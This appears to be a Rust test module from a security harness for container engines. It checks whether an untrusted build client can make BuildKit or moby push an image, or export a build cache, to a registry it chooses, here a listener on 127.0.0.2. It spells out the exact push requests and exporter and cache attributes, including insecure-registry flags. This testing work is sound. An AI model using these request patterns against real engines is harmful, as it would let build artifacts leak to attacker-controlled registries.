//! What was built, or its cache, written to a registry that the attacker has chosen: one on the host's loopback address.
//!
//! Engines with the older store of images push by a call of their own after the build, and write caches only into images. So
//! on them nothing comes of what the build itself says.

use super::loopback::Loopback;
use super::{ALL, Attempt, Failure, GoesWell as _, Sides, remove};
use crate::engines::buildkit::build::Build;
use crate::engines::buildkit::client::Reply;
use crate::engines::buildkit::message::Message;
use crate::engines::buildkit::session::Offer;
use crate::engines::http::{Framing, request, send};
use crate::engines::setting::Engine;

/// Plays on one engine; what failed
pub fn run(engine: &Engine) -> Vec<String> {
    super::play(engine, async |play| {
        let image = "image 127.0.0.2:";
        tokio::join!(
            play.attack("a push behind the build", ALL, image, pushed),
            play.attack("a push by the build", WRITING, image, async |sides: &Sides| {
                exported(sides, &[("push", "true")]).await
            }),
            play.attack("a push without TLS", WRITING, "registry.insecure=true", async |sides: &Sides| {
                exported(sides, &[("push", "true"), ("registry.insecure", "true")]).await
            }),
            play.attack("a cache", WRITING, image, async |sides: &Sides| {
                cached(sides, |place| {
                    Message::new().with(4, Message::new().with(1, "registry").map(2, &[("ref", place)]))
                })
                .await
            }),
            play.attack("a cache without TLS", WRITING, "registry.insecure=true", async |sides: &Sides| {
                let attrs = |place: &str| [("ref", place.to_owned()), ("registry.insecure", "true".to_owned())];
                cached(sides, |place| {
                    let attrs = attrs(place);
                    let attrs = attrs.each_ref().map(|(key, value)| (*key, value.as_str()));
                    Message::new().with(4, Message::new().with(1, "registry").map(2, &attrs))
                })
                .await
            }),
            play.attack("a cache, by the older field", WRITING, image, async |sides: &Sides| {
                cached(sides, |place| Message::new().with(1, place)).await
            }),
        );
    })
}

fn place(sides: &Sides, service: &Loopback) -> String {
    format!("127.0.0.2:{}/{}:1", service.port(), sides.word)
}

/// Builds to the end, which is when something is written
async fn built(sides: &Sides, more: Message) -> Result<(), Reply> {
    let offer = Offer::dockerfile("FROM busybox:test\nCOPY file /file\n").file("file", &sides.word);
    let build = Build::start_with(&sides.attacker, &offer, more).await?;
    let result = build.dockerfile(&[]).await?;
    build.end(&result).await
}

/// An exporter in both places where engines look
fn exporter(attrs: &[(&str, &str)]) -> Message {
    Message::new().with(3, "moby").map(4, attrs).with(13, Message::new().with(1, "moby").map(2, attrs))
}

fn came(service: &Loopback, end: Result<(), Reply>) -> Attempt {
    if service.came() > 0 {
        return Ok(());
    }
    end?;
    Err("nobody came".to_owned().into())
}

async fn exported(sides: &Sides, more: &[(&str, &str)]) -> Attempt {
    let service = Loopback::saying(&sides.word);
    let image = Image::of(sides, &service);
    let attrs: Vec<_> = [("name", image.name.as_str())].into_iter().chain(more.iter().copied()).collect();
    let end = built(sides, exporter(&attrs)).await;
    came(&service, end)
}

async fn pushed(sides: &Sides) -> Attempt {
    let service = Loopback::saying(&sides.word);
    let image = Image::of(sides, &service);
    let end = built(sides, exporter(&[("name", &image.name)])).await;
    let (attacker, name) = (sides.attacker.clone(), image.name.replace(":1", ""));
    let answer = tokio::task::spawn_blocking(move || {
        let nobody = ["X-Registry-Auth: e30=".to_owned()];
        let head = request("POST", &format!("/images/{name}/push?tag=1"), &nobody, b"", Framing::Length);
        send(&attacker, &head, 1).remove(0)
    });
    // An engine tries a registry like this one for a minute.
    let answer = tokio::select! {
        answer = answer => answer.goes_well("asking")?,
        () = service.until_somebody_came() => return Ok(()),
    };
    // It may have come to somebody who did not say that it went well.
    if service.came() > 0 {
        return Ok(());
    }
    end?;
    Err(Failure::Refused(answer.text()))
}

async fn cached(sides: &Sides, cache: impl Fn(&str) -> Message) -> Attempt {
    let service = Loopback::saying(&sides.word);
    let end = built(sides, Message::new().with(8, cache(&place(sides, &service)))).await;
    came(&service, end)
}

/// The name of what is built; removed when dropped
struct Image<'a> {
    sides: &'a Sides,
    name: String,
}

impl<'a> Image<'a> {
    fn of(sides: &'a Sides, service: &Loopback) -> Self {
        Self { sides, name: place(sides, service) }
    }
}

impl Drop for Image<'_> {
    fn drop(&mut self) {
        remove(&self.sides.engine, &format!("/images/{}?force=1", self.name));
    }
}

/// Engines whose builds write to registries themselves
const WRITING: &[&str] = &["containerd"];
